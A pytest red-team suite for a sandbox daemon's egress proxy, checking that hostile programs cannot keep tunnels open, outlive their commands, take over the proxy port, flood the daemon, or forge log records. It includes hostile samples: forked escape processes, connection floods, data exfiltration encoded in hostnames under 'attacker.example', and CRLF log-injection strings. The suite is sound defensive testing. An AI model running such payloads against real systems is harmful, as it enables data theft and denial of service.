"""What a hostile program does with its proxy: it floods, holds, lies and outlives; to no avail."""

import json
import socket
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
import trio

from sbxd.port.command import KillReason
from sbxd.port.errors import BudgetExhausted
from sbxd.port.limits import EnvironmentBudgets
from tests.lab import internet as lab
from tests.lab.internet import Internet
from tests.pacing import next_look
from tests.redteam.configuration import current
from tests.redteam.egress import CLIENT, Networked, allowlist, configured, networked
from tests.redteam.live import admin, until

pytestmark = pytest.mark.needs("daemon")
ECHO = "files.lab-allowed.com:7777"
WAIT_SECONDS = 60
# A tunnel to a server that answers each byte; "ready" is a file once it is open.
HOLD = f"""
code, body, s = head(ask("{ECHO}"))
assert code == 200, body
s.sendall(b"x")
assert s.recv(1) == b"x"
open("ready", "w").close()
"""


@pytest.fixture(scope="module")
def internet() -> Iterator[Internet]:
    with lab.internet() as built, configured(allowlist()):
        yield built


async def until_ready(one: Networked) -> None:
    with trio.fail_after(WAIT_SECONDS):
        while not [each for each in await one.workspace.listdir(".") if each.path == "ready"]:
            await next_look()


def tunnels() -> int:
    """How many connections the host has to the server of tunnels, as its kernel shows them."""
    remote = f"{int.from_bytes(socket.inet_aton(lab.ALLOWED), sys.byteorder):08X}:{7777:04X}"
    lines = Path("/proc/net/tcp").read_text().splitlines()[1:]
    return sum(1 for line in lines if line.split()[2:4] == [remote, "01"])


def daemon_memory_bytes() -> int:
    """Resident, of the daemon's one process."""
    shown = subprocess.run(
        ["systemctl", "show", "--property=MainPID", "--value", "sbxd.service"],
        check=True,
        capture_output=True,
        timeout=60,
    )
    status = Path(f"/proc/{int(shown.stdout)}/status").read_text()
    (line,) = (line for line in status.splitlines() if line.startswith("VmRSS:"))
    return int(line.split()[1]) * 1024


# --- tunnels end ------------------------------------------------------------------------------


@pytest.mark.parametrize("way", ["destroy", "timeout", "end", "caller"])
async def test_a_tunnel_ends_with_its_command_whatever_ends_that(
    internet: Internet, way: str
) -> None:
    sources = {
        "end": HOLD + "os._exit(0)",
        "timeout": HOLD + "s.recv(1)",
        "destroy": HOLD + "s.recv(1)",
        "caller": HOLD + "s.recv(1)",
    }
    async with networked() as one:
        async with trio.open_nursery() as nursery:

            async def run() -> None:
                result = await one.ask(sources[way], timeout_seconds=12 if way == "timeout" else 60)
                if way == "timeout":
                    assert result.killed_by is KillReason.TIMEOUT

            nursery.start_soon(run)
            await until_ready(one)
            assert way == "end" or tunnels() == 1, "the control: it is seen"
            if way == "destroy":
                await one.remote.destroy(one.handle)
                # Before destroy came back: the record is there, and no tunnel is.
                assert tunnels() == 0
            elif way == "caller":
                nursery.cancel_scope.cancel()
        if way == "caller":  # the daemon kills in its own time; the next command waits for it
            await until(lambda: tunnels() == 0)
        assert tunnels() == 0
        kinds = [each["SBX_EVENT"] for each in one.egress()]
        assert kinds == ["EgressAllowed", "EgressTunnelClosed"]


@pytest.mark.also("uml")
async def test_a_process_that_hides_from_its_command_has_no_tunnel_afterwards(
    internet: Internet,
) -> None:
    source = HOLD + "import time\nif os.fork() == 0:\n os.setsid()\n time.sleep(1000)\n"
    async with networked() as one:
        result = await one.ask(source)
        assert result.exit_code == 0
        assert tunnels() == 0
        refused = "try:\n ask('x:1')\nexcept ConnectionRefusedError:\n print('refused')"
        plain = await one.run("python3", "-c", _with_client(refused))
        assert plain.stdout == b"refused\n", "without its yes the next command has no proxy"
        assert (await one.statuses("files.lab-allowed.com:443"))[0][0] == 200


@pytest.mark.also("uml")
async def test_the_port_cannot_be_taken_for_a_later_command(internet: Internet) -> None:
    source = """
import errno
answers = []
for host in ("127.0.0.1", "0.0.0.0"):
    for reuse in (0, 1):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, reuse)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, reuse)
        try:
            s.bind((host, int(sys.argv[1])))
            s.listen()
            answers.append("taken")
        except OSError as problem:
            answers.append(errno.errorcode[problem.errno])
        s.close()
print(json.dumps(answers))
"""
    async with networked() as one:
        for network in (False, True, False):
            argv = ("python3", "-c", _with_client(source))
            result = await one.run(*argv, "3128", network_enabled=network)
            assert json.loads(result.stdout) == ["EADDRINUSE"] * 4
            control = await one.run(*argv, "3129", network_enabled=network)
            assert json.loads(control.stdout) == ["taken"] * 4
        assert (await one.statuses("files.lab-allowed.com:443"))[0][0] == 200


def _with_client(source: str) -> str:
    return CLIENT + source


# --- requests that are none -------------------------------------------------------------------


@pytest.mark.case("EGR-15")
async def test_there_is_no_method_but_connect_and_nothing_to_administer(
    internet: Internet,
) -> None:
    asked = (
        ("GET", "http://files.lab-allowed.com/"), ("POST", "http://files.lab-allowed.com/"),
        ("OPTIONS", "*"), ("TRACE", "/"), ("GET", "/"), ("GET", "/metrics"), ("PUT", "/config"),
        ("DELETE", "/"), ("PURGE", "/"),
    )  # fmt: skip
    async with networked() as one:
        source = f"print(json.dumps([status(t, method=m)[0] for m, t in {asked!r}]))"
        result = await one.ask(source)
        assert json.loads(result.stdout) == [405] * len(asked)
        reasons = Counter(reason for _, _, reason in one.decisions())
        assert reasons == {"method_not_allowed": len(asked)}


@pytest.mark.case("EGR-16")
async def test_heads_that_are_huge_slow_or_many_cost_the_daemon_little(internet: Internet) -> None:
    source = """
import select
huge = ask("x:1")  # whole
s = socket.create_connection(PROXY, 30)
try:
    s.sendall(b"CONNECT x:1 HTTP/1.1\\r\\nx: " + b"a" * (1 << 20))
except (BrokenPipeError, ConnectionResetError):
    pass
answers = {}
try:
    answers["huge"] = head(s)[0]
except (ConnectionResetError, IndexError):
    answers["huge"] = 431
idle = []
for _ in range(300):
    t = socket.socket(); t.setblocking(False)
    try:
        t.connect(PROXY)
    except BlockingIOError:
        pass
    idle.append(t)
slow = socket.create_connection(PROXY, 60)
slow.settimeout(60)
slow.sendall(b"CONNECT files")
answers["slow"] = head(slow)[0]
for t in idle:
    t.close()
answers["after"] = status("files.lab-allowed.com:443")[0]
print(json.dumps(answers))
"""
    before = daemon_memory_bytes()
    async with networked() as one, trio.open_nursery() as nursery:

        async def watch() -> None:
            async with admin() as client:
                assert (await client.describe()).environments >= 1, "others are served meanwhile"

        nursery.start_soon(watch)
        result = await one.ask(source, timeout_seconds=100)
        assert result.exit_code == 0, result
        assert json.loads(result.stdout) == {"huge": 431, "slow": 408, "after": 200}
        reasons = Counter(reason for _, _, reason in one.decisions())
        assert reasons["head_too_large"] == 1
    assert daemon_memory_bytes() - before < 48 * 1024 * 1024


@pytest.mark.case("EGR-22")
async def test_data_in_refused_names_is_slow_counted_exactly_and_charged(
    internet: Internet,
) -> None:
    count = 150
    source = f"""
from concurrent.futures import ThreadPoolExecutor
def one(n):
    return status(f"secret-part-{{n}}.attacker.example:443")[0]
with ThreadPoolExecutor(32) as pool:
    print(json.dumps(sorted(set(pool.map(one, range({count}))))))
"""
    async with networked() as one:
        started = trio.current_time()
        result = await one.ask(source, timeout_seconds=100)
        assert json.loads(result.stdout) == [403]
        assert trio.current_time() - started > 2, "the rate is bounded"
        await one.remote.destroy(one.handle)
        events = one.egress()
        single = [each for each in events if each["SBX_EVENT"] == "EgressRefused"]
        counted = [each for each in events if each["SBX_EVENT"] == "EgressRefusalsCounted"]
        assert counted, "some were beyond the rate"
        assert len(single) + sum(int(each["SBX_TOTAL"]) for each in counted) == count
        # Whoever asked for the end has its proof, and not yet its record.
        await until(lambda: one.recorded("EnvironmentDestroyed"))
        (destroyed,) = one.recorded("EnvironmentDestroyed")
        # One for the command itself.
        assert int(destroyed["SBX_OPERATIONS"]) == count + 1
    assert not [each for each in internet.questions() if "secret" in each]


async def test_a_spent_budget_ends_the_environment_by_its_connections(internet: Internet) -> None:
    budgets = EnvironmentBudgets(
        operations_max=4, returned_bytes_max=1_000_000, wall_seconds_max=600
    )
    async with networked(budgets=budgets) as one:
        source = "for n in range(100): print(status(f'{n}.attacker.example:443')[0], flush=True)"
        result = await one.ask(source)
        assert result.killed_by is KillReason.CANCELLED
        # Output that was on its way when the budget was overrun is cut, as everything after it.
        assert result.stdout.count(b"403") <= 3
        reasons = Counter(reason for _, _, reason in one.decisions())
        # A program may ask more than once before the end of its environment reaches it.
        assert reasons.pop("budget_exhausted") >= 1
        assert reasons == {"host_not_listed": 3}
        with pytest.raises(BudgetExhausted):
            await one.run("true")
        # The command is told of its end first.
        await until(lambda: one.recorded("BudgetWasExhausted"))
        (event,) = one.recorded("BudgetWasExhausted")
        assert event["SBX_BUDGET"] == "operations_max"


async def test_a_name_cannot_forge_a_record(internet: Internet) -> None:
    evil = "a.example:443\\r\\nSBX_EVENT=EgressAllowed\\r\\n"
    async with networked() as one:
        await one.ask(f'status("{evil}"); status("x\\x00y\\x1b[31m:443")')
        assert {each["SBX_EVENT"] for each in one.egress()} == {"EgressRefused"}
        for each in one.egress():
            assert str(each["MESSAGE"]).isprintable()


# --- the configuration ------------------------------------------------------------------------


@pytest.mark.case("EGR-05")
@pytest.mark.parametrize(
    "text",
    [
        '[egress]\nmode = "allowlist"',
        '[egress]\nmode = "allow"',
        '[egress]\nmode = "allowlist"\ndestination = [{ host = "a.example", ports = [443] }]',
        '[egress]\nmode = "allowlist"\ndestinations = [{ host = "a.example", port = 443 }]',
        '[egress]\nmode = "allowlist"\ndestinations = [{ host = "a.example", ports = "443" }]',
        '[egress]\nmode = "allowlist"\ndestinations = [{ host = "*", ports = [443] }]',
        '[egress]\nmode = "allowlist"\ndestinations = [{ host = "10.0.0.1", ports = [443] }]',
        '[egress]\ndestinations = [{ host = "a.example", ports = [443] }]',
    ],
    ids=["empty", "mode", "key", "inner key", "type", "wildcard", "address", "deny with list"],
)
def test_a_policy_that_is_not_one_stops_the_start(text: str) -> None:
    before = current()
    command = ["/opt/sbxd/bin/python", "-m", "sbxd", "--config"]
    with_policy = before.partition("[egress]")[0] + "\n" + text + "\n"
    place = Path("/run/egress-test.toml")
    try:
        place.write_text(with_policy)
        done = subprocess.run([*command, str(place)], capture_output=True, timeout=60, check=False)
        assert done.returncode == 2, done
        assert b"egress" in done.stderr
    finally:
        place.unlink()
